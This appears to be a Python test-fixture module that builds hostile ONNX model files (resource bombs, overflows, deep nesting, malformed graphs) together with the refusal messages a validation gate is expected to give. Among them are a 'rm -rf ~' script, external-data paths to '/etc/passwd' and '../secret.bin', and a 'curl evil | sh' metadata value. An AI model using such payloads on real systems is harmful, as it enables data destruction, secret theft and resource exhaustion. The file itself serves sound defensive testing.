"""Files that a peer might send to do harm: name -> (how the file is made, what the gate's refusal says).

All pretend to be models of the task below. None harms whoever only builds it.
"""

from __future__ import annotations

import gzip
from collections.abc import Callable
from functools import partial
from typing import Any, NamedTuple

import numpy as np
import onnx
from hostile_parts import CLASSES, INPUTS, added, changed, file, honest, length, node, tensor
from hostile_trees import HOSTILE_TREES
from onnx import ModelProto, NodeProto, TensorProto, helper

__all__ = ["CLASSES", "HOSTILE", "INPUTS", "REACH_THE_WORKER", "Hostile"]


class Hostile(NamedTuple):
    make: Callable[[], bytes]
    says: str


def _external(path: str, where: str = "initializer") -> bytes:
    outside = TensorProto(name="w2", data_type=TensorProto.FLOAT, dims=[4])
    outside.external_data.add(key="location", value=path)
    outside.data_location = TensorProto.EXTERNAL
    if where == "initializer":
        return file(weights=[outside])
    return file(helper.make_node("Constant", [], ["y"], value=outside))


def _subgraph(op: str, depth: int = 1) -> bytes:
    inner = helper.make_graph([], "inner", [], [])
    for _ in range(depth):
        inner = helper.make_graph([node(op, ["x"], body=inner)], "inner", [], [])
    return file(node(op, ["x"], body=inner))


def _functions() -> bytes:
    """Each function calls the one before twice: 2^30 nodes once they are written out."""
    model = honest(node("f30", ["x"], domain="local"), last="y", opsets=[("", 17), ("local", 1)])
    for level in range(31):
        calls = [
            helper.make_node(f"f{level - 1}" if level else "Neg", ["a"], ["b"], domain="local" if level else ""),
            helper.make_node(f"f{level - 1}" if level else "Neg", ["b"], ["c"], domain="local" if level else ""),
        ]
        imports = [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]
        model.functions.append(helper.make_function("local", f"f{level}", ["a"], ["c"], calls, imports))
    return bytes(model.SerializeToString())


def _many_nodes(count: int) -> bytes:
    chain = (node("Neg", [f"n{i}"], [f"n{i + 1}"]).SerializeToString() for i in range(count))
    body = b"".join(b"\x0a" + length(len(step)) + step for step in chain)
    return b"\x08\x08" + b"\x3a" + length(len(body)) + body


def _rows_of(name: str = "n") -> list[NodeProto]:
    """The number of rows, as a list of one."""
    shape = node("Shape", ["x"], ["shape"])
    return [shape, node("Gather", ["shape", "first"], [name])]


def _with_rows(*nodes: NodeProto, **constants: Any) -> bytes:
    weights = [tensor(name, value, np.int64) for name, value in {"first": [0], **constants}.items()]
    return file(*_rows_of(), *nodes, weights=weights)


def _metadata(**said: str) -> bytes:
    return changed(lambda model: helper.set_model_props(model, said))


def _deep_types() -> bytes:
    def nest(model: ModelProto) -> None:
        kind = helper.make_tensor_type_proto(TensorProto.FLOAT, [1])
        for _ in range(40):
            kind = helper.make_sequence_type_proto(kind)
        model.graph.value_info.append(helper.make_value_info("y", kind))

    return changed(nest)


def _nested_bytes(depth: int) -> bytes:
    """A node whose attribute holds a graph whose node ..., thousands deep, made byte by byte."""
    data = b""
    for _ in range(depth):
        for tag in (b"\x32", b"\x2a", b"\x0a"):  # attribute.g, node.attribute, graph.node
            data = tag + length(len(data)) + data
    return b"\x08\x08" + b"\x3a" + length(len(data)) + data


def _empty_messages(count: int) -> bytes:
    body = b"\x2a\x00" * count  # initializers of nothing
    return b"\x08\x08" + b"\x3a" + length(len(body)) + body


def _twice(model: bytes) -> bytes:
    """A second graph, which parsers add to the first."""
    extra = onnx.GraphProto(name="second").SerializeToString()
    return model + b"\x3a" + length(len(extra)) + extra


def _broken(change: Callable[[TensorProto], Any]) -> bytes:
    weight = tensor("v", np.ones((2, 2)))
    change(weight)
    return file(weights=[weight])


def _put(name: str, value: Any) -> Callable[[Any], None]:
    return lambda item: setattr(item, name, value)


def _dims(*sides: int) -> Callable[[TensorProto], None]:
    def change(weight: TensorProto) -> None:
        weight.dims[:] = sides

    return change


def _image(op: str, **attributes: Any) -> bytes:
    """x as a picture of 2 x 2, for operators on pictures."""
    weights = [tensor("side", [-1, 1, 2, 2], np.int64), tensor("k", np.ones((1, 1, 1, 1)))]
    inputs = ["picture", "k"] if op == "Conv" else ["picture"]
    return file(node("Reshape", ["x", "side"], ["picture"]), node(op, inputs, **attributes), weights=weights)


def _two_typed() -> bytes:
    strange = node("Neg", ["x"])
    strange.attribute.append(onnx.AttributeProto(name="a", type=onnx.AttributeProto.INT, i=1, f=2.0))
    return file(strange)


def _linear(coefficients: int) -> bytes:
    settings = {"coefficients": [0.0] * coefficients, "intercepts": [0.0] * 3, "classlabels_ints": [0, 1, 2]}
    return file(node("LinearClassifier", ["x"], ["label", "said"], domain="ai.onnx.ml", **settings))


HUGE, OVER = 10**9, 2**62
HOSTILE: dict[str, Hostile] = {
    # not even a model
    "empty": Hostile(lambda: b"", "a file of 0 bytes"),
    "not protobuf": Hostile(lambda: b"#!/bin/sh\nrm -rf ~\n" * 9, "no sense|does not have|another form"),
    "zeros": Hostile(lambda: bytes(5000), "does not have"),
    "gzip": Hostile(lambda: gzip.compress(file()), "no sense|does not have|another form"),
    "truncated": Hostile(lambda: file()[:-20], "makes no sense at byte"),
    "bytes after the end": Hostile(lambda: file() + b"PK\x03\x04rest", "does not have|no sense|another form"),
    "a second graph": Hostile(lambda: _twice(file()), "graph twice"),
    "too large": Hostile(lambda: bytes(129 * 2**20), r"135266304 bytes: expected 1 to 134217728"),
    "ten million empty parts": Hostile(lambda: _empty_messages(10**7), "more than 400000 parts"),
    "graphs 3000 deep": Hostile(lambda: _nested_bytes(3000), "a sub-graph"),
    "lists of lists 40 deep": Hostile(_deep_types, "a list of tensors"),
    # what may not be in a file at all
    "reads the passwords": Hostile(lambda: _external("/etc/passwd"), "kept in another file"),
    "reads a file nearby": Hostile(lambda: _external("../secret.bin", "constant"), "kept in another file"),
    "sub-graph in If": Hostile(lambda: _subgraph("If"), "a sub-graph"),
    "sub-graphs in sub-graphs": Hostile(lambda: _subgraph("Loop", 12), "a sub-graph"),
    "functions of functions": Hostile(_functions, "local functions"),
    "training": Hostile(lambda: changed(lambda m: m.training_info.add()), "a graph for training"),
    "sparse weights": Hostile(
        lambda: changed(lambda m: m.graph.sparse_initializer.add(dims=[HUGE])), r"sparse weights \(GraphProto"
    ),
    "quantised": Hostile(
        lambda: changed(lambda m: m.graph.quantization_annotation.add(tensor_name="w")), "quantised weights"
    ),
    "notes in a node": Hostile(
        lambda: changed(lambda m: m.graph.node[0].metadata_props.add(key="a", value="b")), "notes of the exporter"
    ),
    # versions, domains, operators
    "200,000 nodes": Hostile(lambda: _many_nodes(200_000), "more than 5000 nodes"),
    "opset 9999": Hostile(lambda: file(opsets=[("", 9999)]), "operator set ai.onnx 9999: expected one of version 7 to"),
    "opset 1": Hostile(lambda: file(opsets=[("", 1)]), "operator set ai.onnx 1"),
    "two opsets": Hostile(lambda: file(opsets=[("", 17), ("ai.onnx", 13)]), "a second one"),
    "no opset": Hostile(lambda: file(opsets=[]), "no operator set"),
    "IR version 99": Hostile(lambda: changed(_put("ir_version", 99)), "IR version 99: expected 4 to"),
    "domain of its own": Hostile(lambda: file(opsets=[("", 17), ("com.evil", 1)]), "'com.evil'"),
    "domain of the runtime": Hostile(
        lambda: file(node("FusedMatMul", ["x", "w"], domain="com.microsoft")), "'FusedMatMul' of the domain"
    ),
    **{
        f"operator {op}": Hostile(partial(file, node(op, ["x"])), f"operator '{op}'")
        for op in (
            "Tile",
            "Resize",
            "NonZero",
            "QuantizeLinear",
            "Einsum",
            "StringNormalizer",
            "Unique",
            "OptionalGetElement",
        )
    },
    "random numbers": Hostile(lambda: added("RandomNormal", shape=[HUGE]), "operator 'RandomNormal'"),
    # names
    "name twice": Hostile(lambda: file(node("Neg", ["x"]), node("Abs", ["x"])), "'y' is made twice"),
    "use before definition": Hostile(
        lambda: file(node("Neg", ["z"]), node("Abs", ["x"], ["z"])), "which nothing before it makes"
    ),
    "in a circle": Hostile(lambda: file(node("Add", ["x", "y"], ["y"])), "which nothing before it makes"),
    "weight twice": Hostile(lambda: file(weights=[tensor("w", [1.0])]), "without a name or twice"),
    "weight that is an input": Hostile(
        lambda: changed(lambda m: m.graph.input.append(helper.make_tensor_value_info("w", 1, [4, 3]))),
        r"inputs \['x', 'w'\]: expected \['x'\]",
    ),
    "input that is a weight": Hostile(lambda: file(weights=[tensor("x", np.ones((1, 4)))]), "also a weight"),
    "a megabyte of names": Hostile(lambda: file(node("Neg", ["x"], ["y" * 2_000_000])), "bytes of names"),
    # weights
    "fewer bytes than dims": Hostile(lambda: _broken(_put("raw_data", b"123")), "elements of float"),
    "more bytes than dims": Hostile(lambda: _broken(_dims(1)), "expected 1 elements"),
    "negative dims": Hostile(lambda: _broken(_dims(-2, -2)), "none negative"),
    "dims that overflow": Hostile(lambda: _broken(_dims(2**32, 2**32)), "at most 32000000 elements"),
    "dims that overflow to fit": Hostile(lambda: _broken(_dims(2**62, 4, 4)), "at most 32000000 elements"),
    "forty sides": Hostile(lambda: _broken(_dims(*[1] * 40)), "at most 8 sides"),
    "data in two places": Hostile(lambda: _broken(lambda w: w.float_data.extend([1, 2, 3, 4])), "in one place"),
    "type that is not there": Hostile(lambda: _broken(_put("data_type", 77)), "of type 77"),
    "half precision": Hostile(lambda: added("Neg", tensor("h", [1], np.float16)), "of type float16"),
    "attribute of two types": Hostile(_two_typed, "one value, of the type it names"),
    # sizes, which only show once shapes are told
    "huge ConstantOfShape": Hostile(
        lambda: added("ConstantOfShape", tensor("s", [HUGE], np.int64)), "constant values, weights included"
    ),
    "ConstantOfShape that overflows": Hostile(
        lambda: added("ConstantOfShape", tensor("s", [OVER, OVER], np.int64)), "constant values, weights included"
    ),
    "huge Expand": Hostile(
        lambda: file(node("Expand", ["x", "s"]), weights=[tensor("s", [HUGE, 1, 4], np.int64)]), "values a row"
    ),
    "Expand by the rows": Hostile(
        lambda: _with_rows(node("Concat", ["n", "n"], ["nn"], axis=0), node("ConstantOfShape", ["nn"])),
        "no faster than the rows",
    ),
    "explodes at one number of rows": Hostile(
        lambda: _with_rows(
            node("Equal", ["n", "trap"], ["is"]),
            node("Where", ["is", "huge", "one"], ["s"]),
            node("ConstantOfShape", ["s"]),
            trap=[777],
            huge=[HUGE],
            one=[1],
        ),
        "depends on values",
    ),
    "shape from the values": Hostile(
        lambda: file(
            node("Cast", ["x"], ["i"], to=TensorProto.INT64),
            node("Reshape", ["i", "flat"], ["s"]),
            node("ConstantOfShape", ["s"]),
            weights=[tensor("flat", [-1], np.int64)],
        ),
        "depends on values|cannot be told",
    ),
    "Reshape to huge": Hostile(
        lambda: file(node("Reshape", ["x", "s"]), weights=[tensor("s", [HUGE, HUGE], np.int64)]),
        "values a row|cannot be told",
    ),
    "Pad to huge": Hostile(
        lambda: file(node("Pad", ["x", "p"]), weights=[tensor("p", [0, 0, 0, HUGE], np.int64)]), "values a row"
    ),
    "every row with every other": Hostile(
        lambda: file(node("Transpose", ["x"], ["t"]), node("MatMul", ["x", "t"])), "no faster than the rows"
    ),
    "trillions of operations": Hostile(
        lambda: file(
            node("MatMul", ["x", "a"], ["b"]),
            *(node("MatMul", [f"b{i or ''}", "m"], [f"b{i + 1}"]) for i in range(4000)),
            weights=[tensor("a", np.ones((4, 1500))), tensor("m", np.ones((1500, 1500)))],
        ),
        r"more than 1e\+10 operations a row",
    ),
    "Gather out of range": Hostile(
        lambda: file(node("Gather", ["x", "i"], axis=1), weights=[tensor("i", [7], np.int64)]), "takes place 7 of 4"
    ),
    "stride of zero": Hostile(
        lambda: _image("Conv", kernel_shape=[1, 1], strides=[0, 0]), "'strides' of Conv is 0: expected 1 to 4096"
    ),
    "kernel of a billion": Hostile(lambda: _image("MaxPool", kernel_shape=[HUGE, HUGE]), "'kernel_shape' of MaxPool"),
    "edges of a billion": Hostile(
        lambda: _image("MaxPool", kernel_shape=[1, 1], pads=[HUGE] * 4), "'pads' of MaxPool is 1000000000"
    ),
    "gigantic attribute": Hostile(lambda: file(node("Flatten", ["x"], axis=2**62)), "'axis' of Flatten"),
    "too few coefficients": Hostile(lambda: _linear(5), "LinearClassifier with 5 coefficients"),
    "dropout that trains": Hostile(
        lambda: file(
            node("Dropout", ["x", "half", "yes"]), weights=[tensor("half", 0.5), tensor("yes", True, np.bool_)]
        ),
        "switched to training",
    ),
    "normalisation that trains": Hostile(
        lambda: file(node("BatchNormalization", ["x"] * 5, training_mode=1)),
        "'training_mode' of BatchNormalization is 1",
    ),
    "cast to half precision": Hostile(lambda: file(node("Cast", ["x"], to=10)), "Cast to float16"),
    # what goes in and comes out
    "answers of 64 rows only": Hostile(
        lambda: file(node("Reshape", ["x", "s"]), weights=[tensor("s", [64, 4], np.int64)], last="y"),
        "as many as rows|cannot be told",
    ),
    "other input": Hostile(
        lambda: changed(lambda m: (_put("name", "z")(m.graph.input[0]), m.graph.node[0].input.__setitem__(0, "z"))),
        r"inputs \['z'\]: expected \['x'\]",
    ),
    "fixed number of rows": Hostile(
        lambda: changed(lambda m: _put("dim_value", 1)(m.graph.input[0].type.tensor_type.shape.dim[0])),
        "any number of rows",
    ),
    "other width": Hostile(
        lambda: changed(lambda m: _put("dim_value", 5)(m.graph.input[0].type.tensor_type.shape.dim[1])),
        r"rows of shape \(5,\): expected \(4,\)",
    ),
    "text goes in": Hostile(
        lambda: changed(lambda m: _put("elem_type", 8)(m.graph.input[0].type.tensor_type)), "'x' of type string"
    ),
    "no output": Hostile(lambda: changed(lambda m: m.graph.output.pop()), r"outputs \[\]: expected one, 'logits'"),
    "two outputs": Hostile(
        lambda: changed(lambda m: m.graph.output.append(helper.make_tensor_value_info("x", 1, ["rows", 4]))),
        "expected one, 'logits'",
    ),
    "output of another name": Hostile(lambda: file(out=("said", 1, ["rows", 3])), "expected one, 'logits'"),
    "text comes out": Hostile(lambda: file(out=("logits", 8, ["rows", 3])), "an output of type string"),
    "output of another type": Hostile(
        lambda: file(out=("logits", TensorProto.DOUBLE, ["rows", 3])), "expected both alike"
    ),
    "output that nothing makes": Hostile(
        lambda: changed(lambda m: m.graph.node[0].output.__setitem__(0, "z")), "cannot be told"
    ),
    "wrong width of output": Hostile(
        lambda: changed(lambda m: m.graph.initializer[0].CopyFrom(tensor("w", np.ones((4, 9))))), r"\[64, 9\]"
    ),
    "lies about its width": Hostile(lambda: file(out=("logits", 1, ["rows", 7])), "said to be of shape"),
    "an unknown class in secret": Hostile(
        lambda: changed(lambda m: m.graph.initializer[0].CopyFrom(tensor("w", np.ones((4, 4))))), r"\[64, 4\]"
    ),
    "secret metadata": Hostile(lambda: _metadata(run="curl evil | sh"), "only 'classes' and 'features'"),
    "classes that are no list": Hostile(lambda: _metadata(classes='{"a": 1}'), "a JSON list of names"),
    "classes 100,000 deep": Hostile(lambda: _metadata(classes="[" * 50_000), "a JSON list of names"),
    "a novel for a class": Hostile(lambda: _metadata(classes='["' + "a" * 60_000 + '"]'), "at most 200 characters"),
    "a library of features": Hostile(lambda: _metadata(features='["' + "a" * 70_000 + '"]'), "at most 65536"),
    "too many classes": Hostile(lambda: _metadata(classes='["a", "b", "c", "d"]'), "names of 4 classes"),
    "class twice": Hostile(lambda: _metadata(classes='["a", "a", "b"]'), "each name once"),
    "too few features": Hostile(lambda: _metadata(features='["a"]'), "names of 1 features: expected 4"),
    **{name: Hostile(make, says) for name, (make, says) in HOSTILE_TREES.items()},
}
# Those that look like models as long as no shapes are told: the process that tells them sees these, and no others.
REACH_THE_WORKER = frozenset(
    {
        *("huge ConstantOfShape", "ConstantOfShape that overflows", "huge Expand", "Expand by the rows"),
        *("explodes at one number of rows", "shape from the values", "Reshape to huge", "Pad to huge"),
        *("every row with every other", "trillions of operations", "Gather out of range", "too few coefficients"),
        *("output of another type", "output that nothing makes", "wrong width of output", "lies about its width"),
        *("answers of 64 rows only", "an unknown class in secret", "too many classes", "a feature that is not there"),
    }
)
